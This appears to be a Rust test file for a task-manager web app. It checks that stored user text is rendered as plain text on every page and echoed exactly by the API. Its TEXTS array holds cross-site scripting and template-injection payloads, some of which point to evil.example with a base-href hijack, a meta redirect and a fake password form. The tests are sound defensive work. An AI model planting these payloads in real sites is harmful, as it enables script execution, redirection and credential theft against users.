//! Text that is kept anywhere, shown everywhere: no page takes it for markup.

use actix_web::http::Method;
use actix_web::test::TestRequest;
use serde_json::{Value, json};

use crate::support::{Browser, PASSWORD, Page, Site};

/// Texts that would be something else in some part of a page.
const TEXTS: [&str; 9] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=alert(1) x=\"",
    "</textarea></option></select></title><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</li></ul><form action=//evil.example><input name=password>",
    "javascript:alert(1)//&lt;b&gt;&#60;i&#62;",
    "{{7*7}}{% include \"x\" %}<!-- --><svg/onload=alert(1)>",
];

fn id(of: &Value) -> &str {
    of["id"].as_str().expect("an id")
}

/// Somebody who has this text in everything that takes a text, and in the name of their browser.
async fn furnished(site: &Site, name: &str, text: &str) -> (Browser, Vec<String>) {
    let ann = site.sign_up(name).await;
    let api = ann.api().await;
    api.patch("/api/me", json!({ "name": text })).await.ok();
    let named = json!({ "name": text });
    let list = api.post("/api/lists", named.clone()).await.created();
    let task = json!({ "title": text, "notes": "x", "labels": [text], "list_id": id(&list) });
    let task = api.post("/api/tasks", task).await.created();
    let step = json!({ "title": text, "parent_id": id(&task) });
    api.post("/api/tasks", step).await.created();
    let view = json!({ "name": text, "query": "status=all" });
    let view = api.post("/api/views", view).await.created();
    let script = json!({ "name": text, "scope": "read" });
    let script = api.post("/api/tokens", script).await.created();
    let program =
        crate::support::Api::new(site.clone(), script["token"].as_str().map(str::to_owned));
    program.get("/api/tasks").await.ok();
    for password in [PASSWORD, "wrong but long"] {
        let login = TestRequest::post()
            .uri("/login")
            .insert_header(("user-agent", text))
            .set_form([("email", ann.email.as_str()), ("password", password)]);
        site.send(login).await;
    }
    let label: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
    let label = label.replace('+', "%20");
    let addresses = [
        "/tasks".to_owned(),
        format!("/tasks?label={label}"),
        format!("/tasks?q={label}"),
        format!("/tasks/{}", id(&task)),
        "/lists".to_owned(),
        format!("/lists/{}", id(&list)),
        format!("/labels/{label}"),
        format!("/views/{}", id(&view)),
        "/inbox".to_owned(),
        "/history".to_owned(),
        "/settings".to_owned(),
        "/settings/tokens".to_owned(),
        "/settings/sign-ins".to_owned(),
        "/settings/two-step".to_owned(),
    ];
    (ann, addresses.to_vec())
}

/// What each page of theirs is made of, and the pages.
async fn walk(browser: &mut Browser, addresses: &[String]) -> Vec<Page> {
    let mut pages = Vec::new();
    for address in addresses {
        pages.push(browser.visit(address).await.ok());
    }
    pages
}

on_both_engines! {
    async fn whatever_is_kept_is_shown_as_text_on_every_page(site: Site) {
        let (mut ann, addresses) = furnished(&site, "ann", "Milk").await;
        let plain = walk(&mut ann, &addresses).await;
        for (at, text) in TEXTS.into_iter().enumerate() {
            let (mut bob, addresses) = furnished(&site, &format!("bob{at}"), text).await;
            for (page, expected) in walk(&mut bob, &addresses).await.iter().zip(&plain) {
                let here = &page.address;
                assert_eq!(page.shape(), expected.shape(), "{text} on {here}");
                let shown = page.texts("body").remove(0);
                let count = expected.texts("body").remove(0).matches("Milk").count();
                let folded = text.split_whitespace().collect::<Vec<_>>().join(" ");
                // What a browser calls itself is cut after forty characters.
                let beginning: String = folded.chars().take(40).collect();
                assert!(count > 0 && shown.matches(&beginning).count() >= count, "{text} on {here}: {shown}");
            }
        }
    }

    async fn the_api_keeps_and_answers_text_to_the_letter(site: Site) {
        for (at, text) in TEXTS.into_iter().enumerate() {
            let (browser, _) = furnished(&site, &format!("ann{at}"), text).await;
            let api = browser.api().await;
            assert_eq!(api.get("/api/me").await.ok()["name"], text);
            for (address, member) in [
                ("/api/lists", "name"), ("/api/labels", "name"), ("/api/views", "name"),
                ("/api/tokens", "name"), ("/api/tasks", "title"),
            ] {
                let answer = api.get(address).await;
                let things = answer.ok();
                let things = things.as_array().expect("an array");
                assert!(things.iter().any(|thing| thing[member] == text), "{address}: {text}");
                assert_eq!(answer.reply.header("content-type"), "application/json", "{address}");
                assert_eq!(answer.reply.header("x-content-type-options"), "nosniff", "{address}");
            }
            let signed = api.get("/api/me/sign-ins").await.ok();
            assert!(signed.to_string().contains(&json!(text).to_string()[1..20]), "{signed}");
        }
    }

    async fn an_answer_to_a_browser_is_never_a_page_made_of_a_body(site: Site) {
        let api = site.sign_up("ann").await.api().await;
        let script = "<script>alert(1)</script>";
        for (address, body) in [
            ("/api/tasks", json!({ script: script })),
            ("/api/tasks", json!({ "title": "x", "list_id": script })),
            ("/api/lists", json!({ "name": "x", script: 1 })),
            ("/api/tokens", json!({ "name": "x", "scope": script })),
            ("/api/auth/login", json!({ "email": script, "password": script })),
        ] {
            let answer = api.send(Method::POST, address, &[], Some(body)).await;
            answer.problem(422, "invalid");
            assert_eq!(answer.reply.header("content-type"), "application/problem+json", "{address}");
            assert_eq!(answer.reply.header("x-content-type-options"), "nosniff", "{address}");
        }
    }
}
